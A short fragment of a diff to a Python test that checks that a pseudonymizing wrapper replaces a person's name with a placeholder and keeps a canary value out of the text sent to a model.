+    pseudonymized(model, [], Adds(), inside=())[1].invoke(asked("Hello"))
     assert "<PERSON_1> is ill" in repr(model.told)
     assert CANARY not in repr(model.told)
